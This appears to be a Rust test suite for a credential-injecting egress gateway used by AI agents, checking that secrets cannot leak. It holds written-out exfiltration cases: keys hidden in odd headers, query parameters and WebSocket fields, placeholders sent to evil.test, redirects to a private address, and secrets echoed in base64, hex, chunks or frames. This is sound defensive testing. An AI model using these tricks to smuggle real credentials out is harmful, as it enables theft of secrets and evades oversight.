//! Keys: the agent's own, its placeholder, and those that are put in for it.

use super::{plain, ruled, says, secret};
use crate::common::KEY;
use crate::common::ways::rule_for;
use crate::lab::Due::{Cut, Held, Refused};
use crate::lab::Trip::{Answer, Dialled, Evil, Good, Mark};
use crate::lab::{Attack, Case, Doing, Lab, Setup};
use crate::world::Ports;
use base64::Engine as _;
use model::{EgressRule, Injection, ModelApi, PathPattern, SecretUse};
use std::sync::Arc;

/// base64 of "user:" and [`KEY`].
const KEY_IN_BASE64: &str = concat!("dXNlcjp0ZXN0", "LWtleS1ub3QtcmVhbA==");

/// A second rule, for `evil.test`, without a secret.
fn two_hosts(ports: Ports) -> Setup {
    let mut setup = secret(ports);
    setup.rules.push(rule_for("evil.test", ports.p));
    setup
}

/// The secret is bound to another host.
fn bound_elsewhere(ports: Ports) -> Setup {
    let mut setup = secret(ports);
    setup.secret_hosts = vec!["other.test"];
    setup.control = None;
    setup
}

/// The secret is bound to another agent.
fn bound_to_another(ports: Ports) -> Setup {
    let mut setup = secret(ports);
    setup.secret_agents = vec!["somebody-else"];
    setup.control = None;
    setup
}

/// The secret, and a server that answers as told.
macro_rules! answering {
    ($base:ident, $says:expr) => {
        |ports| {
            let mut setup = $base(ports);
            setup.says = $says;
            setup.control = None;
            setup
        }
    };
}

/// A model server on this machine.
fn model(ports: Ports) -> Setup {
    let mut setup = plain(ports);
    setup.model = Some(ModelApi::Anthropic);
    setup.secret_hosts = vec!["127.0.0.1"];
    setup.says = |_| whole("content-type: application/json\r\n", r#"{"type":"message"}"#);
    setup.control = None;
    setup
}

fn whole(fields: &str, body: &str) -> Vec<Vec<u8>> {
    let length = body.len();
    vec![format!("HTTP/1.1 200 OK\r\n{fields}content-length: {length}\r\n\r\n{body}").into()]
}

/// Sends to `place` on the port that was asked for.
fn redirect(request: &str, place: &str) -> Vec<Vec<u8>> {
    let host = request
        .lines()
        .find_map(|l| l.to_ascii_lowercase().strip_prefix("host: ").map(str::to_owned));
    let port = host.as_deref().and_then(|h| h.rsplit_once(':')).map_or("80", |(_, p)| p).to_owned();
    let location = place.replace("PORT", &port);
    vec![format!("HTTP/1.1 302 X\r\nlocation: {location}\r\ncontent-length: 0\r\n\r\n").into()]
}

pub(super) fn to_evil(request: &str) -> Vec<Vec<u8>> {
    redirect(request, "http://evil.test:PORT/followed")
}

pub(super) fn to_private(request: &str) -> Vec<Vec<u8>> {
    redirect(request, "http://10.0.0.1:PORT/followed")
}

/// A whole text message of a server.
fn frame(payload: &[u8]) -> Vec<u8> {
    [&[0x81, u8::try_from(payload.len()).unwrap()][..], payload].concat()
}

fn in_chunks(_: &str) -> Vec<Vec<u8>> {
    let head = "HTTP/1.1 200 OK\r\ntransfer-encoding: chunked\r\n\r\n";
    let chunks = KEY
        .as_bytes()
        .chunks(3)
        .map(|c| format!("{:x}\r\n{}\r\n", c.len(), String::from_utf8_lossy(c)).into_bytes());
    let mut all = vec![head.as_bytes().to_vec()];
    all.extend(chunks);
    all.push(b"0\r\n\r\n".to_vec());
    all
}

const ASK: &str = "GET http://good.test:{P}/x HTTP/1.1\r\nHost: good.test:{P}\r\n\r\n";

const UPGRADE: &str = "GET http://good.test:{P}/ws HTTP/1.1\r\nHost: good.test:{P}\r\n\
                       Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n\
                       Sec-WebSocket-Key: bm90LWEtc2VjcmV0LWtleQ==\r\n\r\n";
const SWITCHED: &str = "HTTP/1.1 101 X\r\nconnection: Upgrade\r\nupgrade: websocket\r\n\
                        sec-websocket-accept: x\r\n\r\n";

/// The secret goes to `/store` alone; the rest of the host is permitted without it.
fn stored(ports: Ports) -> Setup {
    let mut setup = secret(ports);
    setup.rules[0].paths = vec![PathPattern::parse("/store").unwrap()];
    setup
        .rules
        .push(EgressRule { id: "agents/tester.toml:9".into(), ..plain(ports).rules[0].clone() });
    setup
}

/// The secret goes out as `X-App-Key`.
fn in_header(ports: Ports) -> Setup {
    injected(ports, Injection::Header { name: "x-app-key".into() })
}

/// The secret goes out as `?apitoken=`.
fn in_query(ports: Ports) -> Setup {
    injected(ports, Injection::Query { name: "apitoken".into() })
}

fn injected(ports: Ports, inject: Injection) -> Setup {
    ruled(ports, |rule| rule.secret = Some(SecretUse { name: "key1".into(), inject }))
}

/// The rule with the secret, WebSockets permitted.
fn secret_socket(ports: Ports) -> Setup {
    let mut setup = secret(ports);
    setup.rules[0].websocket = true;
    setup
}

/// The agent's own key, in some place.
macro_rules! own {
    ($name:literal, $path:literal, $fields:literal) => {
        own!($name, plain, $path, $fields)
    };
    ($name:literal, $setup:expr, $path:literal, $fields:literal) => {
        says(
            $name,
            $setup,
            concat!(
                "GET http://good.test:{P}",
                $path,
                " HTTP/1.1\r\nHost: good.test:{P}\r\n",
                $fields,
                "\r\n"
            ),
            Good("{OWN}"),
            Refused("credential of the agent's own"),
        )
    };
}

/// The placeholder, to a host without the grant.
macro_rules! misplaced {
    ($name:literal, $path:literal, $fields:literal) => {
        says(
            $name,
            two_hosts,
            concat!(
                "GET http://evil.test:{P}",
                $path,
                " HTTP/1.1\r\nHost: evil.test:{P}\r\n",
                $fields,
                "\r\n"
            ),
            Evil("{KEY}"),
            Refused("placeholder key"),
        )
    };
}

/// An answer that gives the secret away.
macro_rules! echo {
    ($name:literal, $says:expr, $trip:expr) => {
        says($name, answering!(secret, $says), ASK, Answer($trip), Held("masked"))
    };
}

/// A question to the model with the agent's own key.
macro_rules! to_model {
    ($name:literal, $path:literal, $fields:literal, $trip:expr, $held:literal) => {
        says(
            $name,
            model,
            concat!(
                "POST ",
                $path,
                " HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n",
                $fields,
                "Content-Length: 37\r\n\r\n",
                "{\"model\":\"m\",\"max_tokens\":9,\"x\":12345}"
            ),
            $trip,
            Held($held),
        )
    };
}

/// Asks, and goes where it is sent, as programs do.
async fn follow(lab: Arc<Lab>, text: &'static str) {
    lab.say(ASK).await;
    lab.answered(1).await;
    lab.say(text).await;
}

const TO_EVIL: &str = "GET http://evil.test:{P}/followed HTTP/1.1\r\nHost: evil.test:{P}\r\n\r\n";
const TO_PRIVATE: &str = "GET http://10.0.0.1:{P}/followed HTTP/1.1\r\nHost: 10.0.0.1:{P}\r\n\r\n";

fn follow_to_evil(lab: Arc<Lab>) -> Doing {
    Box::pin(follow(lab, TO_EVIL))
}

fn follow_to_private(lab: Arc<Lab>) -> Doing {
    Box::pin(follow(lab, TO_PRIVATE))
}

pub(super) const CASES: &[Case] = &[
    own!("own key: Authorization", "/", "Authorization: Bearer {OWN}\r\n"),
    own!(
        "own key: authorization twice",
        "/",
        "X-A: b\r\nauthorization: a\r\nAUTHORIZATION: {OWN}\r\n"
    ),
    own!("own key: Proxy-Authorization", "/", "Proxy-Authorization: Basic {OWN}\r\n"),
    own!("own key: Cookie", "/", "Cookie: session={OWN}\r\n"),
    own!("own key: X-Api-Key", "/", "X-Api-Key: {OWN}\r\n"),
    own!("own key: X_Api_Key", "/", "X_Api_Key: {OWN}\r\n"),
    own!("own key: X.Api.Key", "/", "X.Api.Key: {OWN}\r\n"),
    own!("own key: beside the injected field, dots", in_header, "/", "X.App.Key: {OWN}\r\n"),
    own!("own key: beside the injected field, marks", in_header, "/", "X!App!Key: {OWN}\r\n"),
    own!("own key: beside the injected field, tildes", in_header, "/", "x~app-key: {OWN}\r\n"),
    own!("own key: beside the injected parameter, case", in_query, "/?ApiToken={OWN}", ""),
    own!("own key: beside the injected parameter, list", in_query, "/?apitoken[]={OWN}", ""),
    own!("own key: beside the injected parameter, ;", in_query, "/?x=1;apitoken={OWN}", ""),
    own!("own key: Private-Token", "/", "PRIVATE-TOKEN: {OWN}\r\n"),
    own!("own key: in a WebSocket's protocols", "/", "Sec-WebSocket-Protocol: x, bearer.{OWN}\r\n"),
    own!("own key: parameter", "/?a=b&api_key={OWN}", ""),
    own!("own key: parameter with an escaped name", "/?access%5ftoken={OWN}", ""),
    own!("own key: parameter in mixed case", "/?Api_Key={OWN}", ""),
    own!("own key: beside the one that is put in", secret, "/", "X-Api-Key: {OWN}\r\n"),
    says(
        "own key: as user name and password",
        plain,
        "GET http://me:{OWN}@good.test:{P}/ HTTP/1.1\r\nHost: good.test:{P}\r\n\r\n",
        Good("{OWN}"),
        Refused("user names and passwords"),
    ),
    says(
        "own key: hidden in a list of fields of one hop",
        plain,
        "GET http://good.test:{P}/ HTTP/1.1\r\nHost: good.test:{P}\r\n\
         Connection: x-api-key\r\nX-Api-Key: {OWN}\r\n\r\n",
        Good("{OWN}"),
        Refused("credential of the agent's own"),
    ),
    misplaced!(
        "placeholder: to a host without the grant",
        "/",
        "Authorization: Bearer {PLACEHOLDER}\r\n"
    ),
    misplaced!("placeholder: in any field", "/", "X-Any: a{PLACEHOLDER}b\r\n"),
    misplaced!("placeholder: in the user agent", "/", "User-Agent: {PLACEHOLDER}\r\n"),
    misplaced!("placeholder: in the path", "/{PLACEHOLDER}", ""),
    misplaced!("placeholder: in the query", "/?q={PLACEHOLDER}", ""),
    misplaced!("placeholder: escaped", "/%70laceholder-not-a-key", ""),
    says(
        "placeholder: to a host that no rule permits",
        secret,
        "GET http://evil.test:{P}/ HTTP/1.1\r\nHost: evil.test:{P}\r\n\
         X-Api-Key: {PLACEHOLDER}\r\n\r\n",
        Evil("{KEY}"),
        Refused("default deny"),
    ),
    says(
        "placeholder: in the path of its own host",
        secret,
        "GET http://good.test:{P}/p/{PLACEHOLDER} HTTP/1.1\r\nHost: good.test:{P}\r\n\r\n",
        Good("/p/{KEY}"),
        Refused("placeholder key"),
    ),
    says(
        "placeholder: in a body",
        two_hosts,
        "POST http://evil.test:{P}/ HTTP/1.1\r\nHost: evil.test:{P}\r\nContent-Length: 21\r\n\
         \r\n{PLACEHOLDER}",
        Evil("{KEY}"),
        Held("in a body it is a word like any other"),
    ),
    says(
        "secret: bound to another host",
        bound_elsewhere,
        ASK,
        Good("{KEY}"),
        Refused("may not be used at"),
    ),
    says(
        "secret: bound to another agent",
        bound_to_another,
        ASK,
        Good("{KEY}"),
        Refused("may not be used at"),
    ),
    says(
        "secret: to the second host of the same agent",
        two_hosts,
        "GET http://evil.test:{P}/ HTTP/1.1\r\nHost: evil.test:{P}\r\n\r\n",
        Evil("{KEY}"),
        Held("put in for the host of its rule only"),
    ),
    says(
        "secret: asked for with TRACE",
        answering!(secret, |text| whole("", text)),
        "TRACE http://good.test:{P}/x HTTP/1.1\r\nHost: good.test:{P}\r\n\r\n",
        Answer("{KEY}"),
        Refused("not forwarded"),
    ),
    echo!("secret: repeated in a body", |text| whole("", text), "{KEY}"),
    echo!("secret: repeated in a field", |_| whole("x-echo: test-key-not-real\r\n", ""), "{KEY}"),
    echo!("secret: repeated in pieces", in_chunks, "{KEY}"),
    echo!(
        "secret: repeated in base64",
        |_| {
            let text = format!("user:{KEY}");
            whole("", &base64::engine::general_purpose::STANDARD.encode(text))
        },
        KEY_IN_BASE64
    ),
    echo!(
        "secret: repeated in base64 with escapes",
        |_| whole("", &KEY_IN_BASE64.replace('L', "%4C").replace('3', "\\u0033")),
        "dXNlcjp0ZXN0%4CWtleS1ub\\u0033QtcmVhbA=="
    ),
    echo!(
        "secret: repeated in lines of base64",
        |_| whole("", "dXNlcjp0ZXN0LW\r\ntleS1ub3QtcmVhbA=="),
        "LW\r\ntleS1ub3QtcmVhbA=="
    ),
    echo!(
        "secret: repeated in hexadecimal of both cases",
        |_| whole("", "746573742D6b65792d6e6f742D7265616C"),
        "746573742D6b65792d6e6f742D7265616C"
    ),
    says(
        "secret: repeated in an answer compressed by another field",
        answering!(secret, |_| whole("im: gzip\r\n", KEY)),
        ASK,
        Answer("{KEY}"),
        Refused("compressed"),
    ),
    echo!(
        "secret: repeated with escapes",
        |_| whole("", &KEY.replace('-', "%2D")),
        "test%2Dkey%2Dnot%2Dreal"
    ),
    echo!(
        "secret: repeated in a redirect",
        |_| whole("location: /?k=test-key-not-real\r\n", ""),
        "{KEY}"
    ),
    says(
        "secret: repeated in a compressed answer",
        answering!(secret, |_| whole("content-encoding: gzip\r\n", KEY)),
        ASK,
        Answer("{KEY}"),
        Refused("compressed"),
    ),
    says(
        "secret: read back range by range",
        answering!(secret, |text| {
            let half = if text.to_lowercase().contains("range: bytes=0-8") { 9 } else { 0 };
            whole("", &KEY[..half])
        }),
        "GET http://good.test:{P}/x HTTP/1.1\r\nHost: good.test:{P}\r\nRange: bytes=0-8\r\n\r\n",
        Answer("test-key-"),
        Held("no ranges where a secret is put in"),
    ),
    says(
        "WebSocket: where the rule permits the GET",
        answering!(plain, |_| vec![SWITCHED.into()]),
        UPGRADE,
        Answer("HTTP/1.1 101"),
        Refused("not as a WebSocket"),
    ),
    says(
        "secret: given back by another rule",
        answering!(stored, |_| whole("x-was: test-key-not-real\r\n", KEY)),
        ASK,
        Answer("{KEY}"),
        Held("masked for every secret that is used at the host"),
    ),
    says(
        "secret: repeated in a WebSocket",
        answering!(secret_socket, |_| vec![SWITCHED.into(), frame(KEY.as_bytes())]),
        UPGRADE,
        Answer("{KEY}"),
        Cut("gave a secret back"),
    ),
    says(
        "secret: repeated in a WebSocket, piece by piece",
        answering!(secret_socket, |_| {
            let whole = frame(KEY.as_bytes());
            let pieces = whole.chunks(3).map(<[u8]>::to_vec);
            std::iter::once(SWITCHED.into()).chain(pieces).collect()
        }),
        UPGRADE,
        Answer("test-key-not"),
        Cut("gave a secret back"),
    ),
    says(
        "secret: repeated in a WebSocket, a few bytes a frame",
        answering!(secret_socket, |_| {
            let pieces = KEY.as_bytes().chunks(6).map(frame);
            std::iter::once(SWITCHED.into()).chain(pieces).collect()
        }),
        UPGRADE,
        Answer("ey-not"),
        Cut("gave a secret back"),
    ),
    says(
        "secret: repeated in what is no WebSocket",
        answering!(secret_socket, |_| vec![SWITCHED.into(), KEY.into()]),
        UPGRADE,
        Answer("{KEY}"),
        Cut("could not be seen"),
    ),
    says(
        "answer: an alternative service past the gateway",
        answering!(plain, |_| whole("alt-svc: h3=\"evil.test:443\"\r\n", "")),
        ASK,
        Answer("alt-svc"),
        Held("the field ends at the gateway"),
    ),
    Case {
        name: "redirect: to a host that no rule permits",
        setup: answering!(plain, to_evil),
        attack: Attack::Does(follow_to_evil),
        trip: Evil("/followed"),
        due: Refused("default deny"),
    },
    Case {
        name: "redirect: to a private address",
        setup: answering!(plain, to_private),
        attack: Attack::Does(follow_to_private),
        trip: Dialled("10.0.0.1"),
        due: Refused("it is an address"),
    },
    Case {
        name: "redirect: the secret goes along",
        setup: answering!(two_hosts, to_evil),
        attack: Attack::Does(follow_to_evil),
        trip: Evil("{KEY}"),
        due: Held("put in for the host of its rule only"),
    },
    to_model!(
        "model: own key as X-Api-Key",
        "/v1/messages",
        "X-Api-Key: {OWN}\r\n",
        Good("{OWN}"),
        "replaced"
    ),
    to_model!(
        "model: own key as Authorization",
        "/v1/messages",
        "Authorization: Bearer {OWN}\r\n",
        Good("{OWN}"),
        "replaced"
    ),
    to_model!(
        "model: own key as a cookie",
        "/v1/messages",
        "Cookie: a={OWN}\r\n",
        Good("{OWN}"),
        "left out"
    ),
    to_model!(
        "model: own key as a parameter",
        "/v1/messages?key={OWN}",
        "",
        Good("{OWN}"),
        "left out"
    ),
    to_model!(
        "model: another path of its server",
        "/v1/../{MARK}",
        "",
        Mark,
        "paths of models only"
    ),
    to_model!(
        "model: another endpoint of its server",
        "/v1/files/{MARK}",
        "",
        Mark,
        "paths of models only"
    ),
    says(
        "model: its server repeats the key",
        |ports| {
            let mut setup = model(ports);
            setup.says =
                |text| whole("content-type: application/json\r\nx-k: test-key-not-real\r\n", text);
            setup
        },
        "POST /v1/messages HTTP/1.1\r\nHost: x\r\nContent-Length: 27\r\n\r\n\
         {\"model\":\"m\",\"max_tokens\":9}",
        Answer("{KEY}"),
        Held("masked"),
    ),
    says(
        "model: its server sends elsewhere",
        |ports| {
            let mut setup = model(ports);
            setup.says = to_evil;
            setup
        },
        "POST /v1/messages HTTP/1.1\r\nHost: x\r\nContent-Length: 28\r\n\r\n\
         {\"model\":\"m\",\"max_tokens\":9}",
        Evil("{KEY}"),
        Held("redirects of models are not followed"),
    ),
];
